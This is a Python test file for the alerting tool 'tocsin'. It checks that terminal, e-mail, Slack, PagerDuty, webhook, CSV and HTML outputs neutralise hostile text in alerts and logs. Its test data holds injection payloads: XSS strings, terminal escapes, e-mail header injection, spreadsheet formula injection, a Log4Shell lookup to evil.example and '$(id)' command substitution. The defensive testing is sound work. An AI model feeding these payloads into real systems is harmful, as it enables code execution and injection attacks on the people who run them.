"""What strangers write, in every channel that shows it: told, and obeyed nowhere."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from email import message_from_bytes, policy
from html.parser import HTMLParser

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from tests.notify.telling import START, a_notification, an_alert

from tocsin.cli import cli
from tocsin.notify import (
    FileNotifier,
    FileReceiver,
    TerminalNotifier,
    alertmanager_body,
    pagerduty_body,
    slack_body,
    webhook_body,
)
from tocsin.notify._apprise import plain_text
from tocsin.notify._email import email_message
from tocsin.notify._sns import publish_request
from tocsin.printable import cell

WORDS = [
    "\x1b[31mred\x1b]0;title\x07\x1b[2J", "\x9b2J\x90q\x9c\x7f\x08\x08\x08", "back\rover\nnew line\x0b\x0c\x85",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'-->]]></title><b>", "&lt;b&gt;&#60;",
    "<!channel> <!here> <@U123> <https://evil.example|click>", "*bold* _it_ ~no~ `code` @everyone #general",
    "[click](https://evil.example) ![x](https://evil.example/x.png)", "||spoiler|| \\*",
    "x\r\nBcc: a@b.example\r\n\r\n<b>body", "=?utf-8?q?x?=", "\r\n.\r\nMAIL FROM:<a@b.example>",
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =cmd|' /C calc'!A0", "\uff1d1+1", 'a,b;"c"',
    "\u202egpj.exe\u202c", "\u2066\u2069\u200f\u061c", "zero\u200bwidth\u200d\u2060\ufeff", "\u2028\u2029", "\U000e0041",
    "${jndi:ldap://evil.example/a}", "{{ 7*7 }}", "%s%n$(id)`id`", "\ud7ff\ue000\ufffe",
]  # fmt: skip
TEXTS = st.sampled_from(WORDS) | st.text(max_size=60) | st.lists(st.sampled_from(WORDS), max_size=4).map("".join)  # fmt: skip


def hostile(text, *, name=None, resolved=False):
    alert = an_alert(name or text, resolved=resolved, user=text, instance=text, path=f"/{text}")
    alert.annotations.update(summary=text, description=text, sources=text, offenders=text)
    return a_notification("k", alert, group=f'{{}}:{{user="{text}"}}')


def inert(text):
    """No line does anything to a terminal; nothing is invisible or turns what follows around."""
    return all(line.isprintable() for line in text.split("\n"))


class Tags(HTMLParser):
    def __init__(self, page):
        super().__init__()
        self.tags, self.attributes, self.links = set(), set(), set()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attributes}
        self.links |= {value for name, value in attributes if name in {"href", "src"}}

    def handle_comment(self, data):
        raise AssertionError(data)


@given(TEXTS)
def test_terminal(text):
    written = []
    asyncio.run(TerminalNotifier(written.append).send(hostile(text)))
    (line, rest) = "".join(written).split("\n")
    assert (line.isprintable(), rest) == (True, "")


@given(TEXTS)
def test_e_mail(text):
    made = email_message(hostile(text), "tocsin@a.example", ("b@c.example",)).as_bytes(
        policy=policy.SMTP
    )
    message = message_from_bytes(made, policy=policy.default)
    assert sorted(message.keys()) == [
        "Auto-Submitted", "Content-Type", "Date", "From", "MIME-Version", "Message-ID", "Subject", "To",
    ]  # fmt: skip
    assert (message["To"], message["From"]) == ("b@c.example", "tocsin@a.example")
    assert message["Subject"].isprintable()
    plain, page = message.iter_parts()
    assert inert(plain.get_content().replace("\r\n", "\n"))
    assert inert(page.get_content().replace("\r\n", "\n"))
    found = Tags(page.get_content())
    assert found.tags <= {"title", "h1", "table", "tr", "th", "td", "hr"}
    assert found.attributes <= {"align", "colspan"}


@given(TEXTS)
def test_slack(text):
    body = json.loads(slack_body(hostile(text)))
    assert inert(body["text"].replace("\u200b", ""))
    title, *facts = body["text"].split("\n")
    for shown in (title.removeprefix("*").removesuffix("*"), *facts):
        assert not re.search(r"[<>]|&(?!amp;|lt;|gt;)|[*_~`@](?!\u200b)", shown)
    assert (body["link_names"], body["unfurl_links"]) == (0, False)


@given(TEXTS)
def test_pagerduty(text):
    def texts(value):
        if isinstance(value, dict):
            return [each for inner in value.values() for each in texts(inner)]
        return [value] if isinstance(value, str) else []

    assert all(
        each.isprintable() for each in texts(json.loads(pagerduty_body(hostile(text), "key")))
    )


@given(TEXTS)
def test_apprise(text):
    shown = plain_text(hostile(text))
    assert inert(shown.replace("\u200b", ""))
    assert not re.search(r"[*_~`@#<>\[\]()&|\\](?!\u200b)", shown)


@given(TEXTS, st.booleans())
def test_webhook_alertmanager_and_sns_have_the_text_as_data(text, resolved):
    notification = hostile(text, resolved=resolved)
    for body in (
        webhook_body(notification), alertmanager_body(notification.alerts, START, 1),
        publish_request(notification, "arn:aws:sns:us-east-1:1:x")["Message"].encode(),
    ):  # fmt: skip
        assert body.decode().isprintable()
        assert json.loads(body) is not None
    (alert,) = json.loads(webhook_body(notification))["alerts"]
    assert (alert["labels"]["user"], alert["annotations"]["summary"]) == (text, text)
    (alert,) = json.loads(alertmanager_body(notification.alerts, START, 1))
    assert alert["labels"]["user"] == text
    request = publish_request(notification, "arn:aws:sns:us-east-1:1:x")
    assert json.loads(request["Message"])["Alerts"][0]["Labels"]["user"] == text
    assert re.fullmatch(r"[!-~][ -~]{0,99}", request["Subject"])


def test_file(tmp_path):
    notifier = FileNotifier(FileReceiver("t", str(tmp_path / "alerts")))
    for text in WORDS:
        asyncio.run(notifier.send(hostile(text)))
    lines = (tmp_path / "alerts").read_bytes().decode().split("\n")
    assert lines.pop() == ""
    assert all(line.isprintable() for line in lines)
    assert [json.loads(line)["alerts"][0]["labels"]["user"] for line in lines] == WORDS


@given(TEXTS)
def test_a_cell_of_a_spreadsheet(text):
    out = io.StringIO()
    csv.writer(out).writerow([cell(text), "next"])
    ((shown, following),) = csv.reader(io.StringIO(out.getvalue()))
    assert following == "next"
    assert shown.isprintable()
    assert not shown.strip() or shown.lstrip()[0] not in "=+-@|%\uff1d\uff0b\uff0d\uff20"


@pytest.fixture(scope="module")
def log(tmp_path_factory):
    """Logins with these names, and requests with these paths and agents."""
    folder = tmp_path_factory.mktemp("log")
    lines = [
        json.dumps({
            "time": "2026-11-21T10:00:01Z", "event": "authn_login_fail", "client": "203.0.113.9",
            "user": text, "path": f"/.env{text}", "method": "GET", "status": 404, "agent": text,
        })
        for text in WORDS
    ]  # fmt: skip
    (folder / "app.jsonl").write_text("\n".join(lines) + "\n")
    return folder / "app.jsonl"


def run(*arguments):
    done = CliRunner().invoke(cli, [*map(str, arguments)], standalone_mode=False)
    assert done.exception is None, done.exception
    return done.stdout


@pytest.mark.parametrize("by", ["user", "address"])
def test_commands_over_a_hostile_log(log, by):
    assert inert(run("offenders", "--by", by, log))
    table = run("offenders", "--by", by, "--format", "csv", log)
    rows = [row for row in csv.reader(io.StringIO(table)) if row]
    assert len(rows) > 1
    for row in rows:
        for each in row:
            assert each.isprintable()
            assert each.lstrip()[:1] not in set("=+-@|%\uff1d\uff0b\uff0d\uff20") or not each
    names = {each[by] for each in json.loads(run("offenders", "--by", by, "--format", "json", log))["offenders"]}  # fmt: skip
    assert names <= {*WORDS, "203.0.113.9"} if by == "user" else names == {"203.0.113.9"}


def test_a_replay_of_a_hostile_log(log, tmp_path):
    page = tmp_path / "page.html"
    assert inert(run("replay", "--pack", "appsec", "--html", page, log))
    found = Tags(page.read_text())
    assert not found.tags & {"script", "img", "b", "iframe", "base", "link", "form", "object"}
    assert not any(each.startswith("on") for each in found.attributes)
    assert all(each.startswith("#") for each in found.links)
    assert inert(page.read_text())
